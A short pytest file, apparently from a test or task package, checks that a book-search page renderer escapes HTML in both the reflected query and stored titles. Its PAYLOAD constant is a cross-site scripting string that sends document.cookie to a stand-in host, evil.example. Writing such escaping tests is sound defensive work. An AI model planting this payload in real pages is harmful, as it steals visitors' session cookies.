from __future__ import annotations

import importlib
import os

import pytest

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))

PAYLOAD = "<script>fetch('//evil.example/?c='+document.cookie)</script>"


@pytest.mark.parametrize("books", [[], [{"title": "x", "author": "y", "year": 2000}]])
def test_reflected_query_is_escaped(books: list[dict[str, object]]) -> None:
    assert "<script>" not in mod.render_results(PAYLOAD, books)


def test_stored_title_is_escaped() -> None:
    html = mod.render_results("a", [{"title": PAYLOAD, "author": "<b>y</b>", "year": 2000}])
    assert "<script>" not in html and "<b>y</b>" not in html
